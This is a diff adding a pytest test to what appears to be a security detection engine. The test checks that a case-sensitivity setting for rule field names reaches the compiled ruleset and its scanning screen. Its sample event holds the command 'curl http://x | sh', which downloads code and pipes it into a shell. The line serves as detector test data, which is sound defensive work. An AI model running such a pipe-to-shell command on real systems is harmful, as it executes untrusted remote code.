@@ -91,3 +91,26 @@ def test_event_time_is_read_only_for_alerts_and_stateful_detectors(tmp_path):
     _CountingItem.reads = 0
     Detector(stateful.detection).process(items, now=5000.0)
     assert _CountingItem.reads == len(items)
+
+
+@pytest.mark.parametrize("field_names", ["insensitive", "sensitive"])
+def test_rules_field_names_reach_the_engine_and_its_screen(tmp_path, field_names):
+    """``rules.field_names`` is passed once (``compile_detection``) and the ruleset and its native
+    screen follow it: a key in another case than the rule's is the same field, or another one."""
+    import orjson
+
+    from service.config import AnomalySettings, CorrelationSettings, RulesSettings
+    from service.reload import compile_configured
+
+    (tmp_path / "curl.yml").write_text(CURL_RULE)
+    rules = RulesSettings(paths=[tmp_path], field_names=field_names)
+    outcome = compile_configured(rules, CorrelationSettings(), AnomalySettings(), 1)
+    assert outcome.detection is not None
+    ruleset = outcome.detection.ruleset
+    assert ruleset.cased_fields is (field_names == "sensitive")
+    other_case = {"Message": "curl http://x | sh"}
+    assert bool(ruleset.evaluate(other_case)) is (field_names == "insensitive")
+    screen = ruleset.screen()
+    if screen is not None:
+        picked, _ = screen.scan([orjson.dumps(other_case)], [0], None, 1 << 20, 64)
+        assert bool(picked) is (field_names == "insensitive")
